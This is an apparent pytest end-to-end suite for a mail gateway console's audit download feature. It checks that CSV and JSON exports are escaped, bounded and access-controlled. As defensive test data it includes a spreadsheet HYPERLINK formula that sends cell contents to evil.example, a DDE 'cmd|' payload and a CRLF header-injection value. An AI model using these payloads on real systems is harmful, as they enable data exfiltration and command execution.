"""What a search of the audit finds, as a file: whole, bounded, and harmless to whoever opens it."""

import csv
import fcntl
import http.client
import io
import json
import os
import re
import signal
import socket
import urllib.parse

import pytest

from e2e.test_console_login import ANNA, CLEO, DAN, console_password, served
from e2e.test_console_pages import log_in
from harness.client import login, message
from harness.console import Reader
from harness.process import PATIENCE, wait_until

NAME = re.compile(r'attachment; filename="subgate-\d{4}-\d\d-\d\d-\d{6}\.(json|csv)"')
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SPLIT = "x;=cmd|'/C calc'!A0;y\r\n+1\t@SUM(A1)\n \"-2\""  # where the cell ends at a ; or tab


def download(console, reader, form, **criteria):
    query = urllib.parse.urlencode({"format": form, **criteria})
    status, fields, text = console.ask("GET", f"/mail/download?{query}", Cookie=reader.cookie,
                                       Accept_Language="en")
    return status, fields, text


def write_records(subgate, count, user, reason="a,\"b\"\r\nc"):
    """Earlier records, as rotation leaves them beside the audit, of which some would be run by a spreadsheet."""
    text = "".join(json.dumps({"ts": "2026-11-01T10:00:00.000000Z", "type": "message.refused", "node": "one",
                               "message": f"M{i}", "user": user, "mail_from": FORMULA, "reason": reason,
                               "rcpt_to": [{"address": "x@example.net"}]}) + "\n" for i in range(count))
    with open(subgate.state / "audit.jsonl", "a") as audit:
        # As whoever writes there does: its relay writes, too, and refuses what needs a record if it waits for long.
        fcntl.lockf(audit, fcntl.LOCK_EX)
        audit.write(text)


def test_a_search_is_kept_as_json_and_as_a_table(start, upstream, authority):
    subgate, console = served(start, upstream, authority)
    with login(subgate, DAN, subgate.create_app_password(DAN)) as client:
        client.sendmail(DAN, ["bob@example.net"], message(DAN))
    sent, = subgate.wait_for_audit("message.sent")
    reader = log_in(console, subgate, CLEO)
    page = reader.get(f"/mail?result=sent&user={DAN}")[2]
    for form in ("json", "csv"):
        link = f"/mail/download?format={form}&amp;user={urllib.parse.quote(DAN)}&amp;result=sent"
        assert f'href="{link}"' in page, page
    status, fields, found = download(console, reader, "json", result="sent", user=DAN)
    assert status == 200 and NAME.fullmatch(fields["Content-Disposition"])
    assert fields["Cache-Control"] == "no-store" and fields["X-Content-Type-Options"] == "nosniff"
    assert found == {"records": [sent]}
    status, fields, text = download(console, reader, "csv", result="sent", user=DAN)
    assert status == 200 and fields["Content-Type"] == "text/csv; charset=utf-8"
    row, = csv.DictReader(io.StringIO(text))
    assert (row["user"], row["recipients"], row["message"]) == (DAN, "bob@example.net", sent["message"])
    assert download(console, reader, "json", text="no such thing")[2] == {"records": []}
    assert len(download(console, reader, "csv", text="no such thing")[2].splitlines()) == 1


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits(start, upstream, authority, delimiter):
    subgate, console = served(start, upstream, authority)
    reader = log_in(console, subgate, CLEO)
    write_records(subgate, 3, DAN, SPLIT)
    text = download(console, reader, "csv", user=DAN)[2]
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert any("cmd|" in cell for cell in cells)
    assert [cell for cell in cells if cell.strip()[:1] in tuple("=+-@")] == []


@pytest.mark.seconds(20)
def test_a_large_search_comes_in_parts_and_whole(start, upstream, authority):
    subgate, console = served(start, upstream, authority)
    reader = log_in(console, subgate, CLEO)
    write_records(subgate, 1703, DAN)
    found = download(console, reader, "json", user=DAN)[2]
    assert [r["message"] for r in found["records"]] == [f"M{i}" for i in reversed(range(1703))]
    assert "more" not in found
    rows = list(csv.DictReader(io.StringIO(download(console, reader, "csv", user=DAN)[2], newline="")))
    assert [row["message"] for row in rows] == [f"M{i}" for i in reversed(range(1703))]
    assert {row["mail_from"] for row in rows} == {"'" + FORMULA}
    assert {row["reason"] for row in rows} == {"a,\"b\"\r\nc"}
    # More than a download holds: its end says so.
    write_records(subgate, 19000, DAN)
    found = download(console, reader, "json", user=DAN)[2]
    assert len(found["records"]) == 20000 and found["more"] is True
    last = list(csv.DictReader(io.StringIO(download(console, reader, "csv", user=DAN)[2], newline="")))[-1]
    assert last["type"] == "more"


def test_downloads_are_for_those_who_may_search(start, upstream, authority):
    subgate, console = served(start, upstream, authority)
    assert Reader(console).get("/mail/download?format=csv")[:2] == (303, "/login")
    reader = log_in(console, subgate, DAN)
    status, fields, text = download(console, reader, "csv", user=ANNA)
    assert status == 404 and "Content-Disposition" not in fields
    reader = log_in(console, subgate, CLEO)
    assert reader.post("/mail/download", {}, csrf="")[0] == 405
    status, fields, text = download(console, reader, "csv", client="no network")
    assert status == 400 and "can't be searched for" in text and "Content-Disposition" not in fields
    # What a link says goes into no field of the answer, and nowhere but into the search.
    evil = 'csv"\r\nSet-Cookie: a=b\r\n'
    status, fields, found = download(console, reader, evil, text="\"; filename=x.exe", older="1-1", limit="1", id2="x")
    assert status == 200 and NAME.fullmatch(fields["Content-Disposition"]) and fields["Set-Cookie"] is None
    assert found == {"records": []}
    assert console.ask("HEAD", "/mail/download?format=csv", Cookie=reader.cookie)[0] == 200
    assert download(console, reader, "json", result="sent")[0] == 200


def small_socket(console):
    """Its receiver's window is small, so that it's the console that holds what has not been read."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(PATIENCE)
    sock.connect(("127.0.0.1", console.port))
    return console.context.wrap_socket(sock)


def begin(console, reader):
    connection = console.connect()
    connection.sock = small_socket(console)
    connection.request("GET", "/mail/download?format=json&user=" + DAN, headers={"Cookie": reader.cookie})
    return connection, connection.getresponse()


@pytest.mark.seconds(20)
def test_slow_readers_hold_nothing_up_and_a_broken_download_is_seen(start, upstream, authority):
    subgate, console = served(start, upstream, authority)
    reader = log_in(console, subgate, CLEO)
    write_records(subgate, 20000, DAN)
    slow = [begin(console, reader) for _ in range(2)]  # they read the header, and no more
    try:
        assert download(console, reader, "json")[0] == 503  # two of a session
        assert reader.get("/mail")[0] == 200
        assert subgate.ctl_json("status")["ok"]
        with login(subgate, DAN, subgate.create_app_password(DAN)) as client:
            client.sendmail(DAN, ["bob@example.net"], message(DAN))
        victim, = subgate.pids("admin")
        os.kill(victim, signal.SIGKILL)
        wait_until(lambda: victim not in subgate.pids("admin"), "admin's end")
        with pytest.raises(http.client.IncompleteRead):
            slow[0][1].read()
    finally:
        for connection, _ in slow:
            connection.close()

    password = console_password(subgate, CLEO)
    wait_until(lambda: reader.log_in(CLEO, password)[0] == 303, "the next admin process")
    assert len(download(console, reader, "json", user=DAN)[2]["records"]) == 20000


@pytest.mark.seconds(20)
def test_a_last_part_keeps_its_place_until_it_is_read(start, upstream, authority):
    subgate, console = served(start, upstream, authority)
    reader = log_in(console, subgate, CLEO)
    write_records(subgate, 200, DAN, 2000 * "x")  # one part, larger than what sockets hold
    slow = [begin(console, reader) for _ in range(2)]
    try:
        assert download(console, reader, "json")[0] == 503
        assert len(json.loads(slow[1][1].read())["records"]) == 200
        wait_until(lambda: download(console, reader, "json")[0] == 200, "the place of one that was read")
        # The other lacks no part, so it needs no admin process.
        victim, = subgate.pids("admin")
        os.kill(victim, signal.SIGKILL)
        wait_until(lambda: victim not in subgate.pids("admin"), "admin's end")
        assert len(json.loads(slow[0][1].read())["records"]) == 200
    finally:
        for connection, _ in slow:
            connection.close()
